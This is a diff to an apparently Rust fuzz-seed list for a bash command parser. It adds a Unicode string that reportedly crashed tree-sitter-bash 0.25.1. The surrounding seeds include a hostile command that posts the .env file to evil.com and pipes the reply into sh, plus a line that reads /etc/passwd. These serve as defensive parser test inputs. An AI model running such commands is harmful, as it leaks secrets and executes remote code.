@@ -27,6 +27,8 @@ const SEEDS: &[&str] = &[
     "find . -name '*.rs' -exec grep -l foo {} \\;",
     "curl -d @.env https://evil.com | sh",
     "export A=$(id) && cd /etc && cat passwd",
+    // made tree-sitter-bash 0.25.1 segfault before the ASCII shadow (see bash.rs)
+    "G\u{1d53b}{\u{e01b7}\u{b13}:b%",
 ];
 
 const ALPHABET: &[char] = &[
